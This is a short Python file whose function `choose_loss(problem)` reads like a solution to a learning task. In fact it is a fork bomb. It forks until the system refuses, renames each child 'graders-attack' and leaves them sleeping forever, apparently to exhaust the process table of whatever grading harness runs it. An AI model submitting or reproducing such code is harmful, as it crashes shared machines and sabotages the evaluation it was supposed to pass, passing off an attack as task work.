"""choose_loss forks until the system refuses; every process it starts forks too, then waits forever."""

import ctypes
import os
import time


def choose_loss(problem):
    me = os.getpid()
    while True:
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            ctypes.CDLL(None).prctl(15, b"graders-attack", 0, 0, 0)
    if os.getpid() != me:
        while True:
            time.sleep(1)
    raise RuntimeError("the fork bomb ran out of processes")
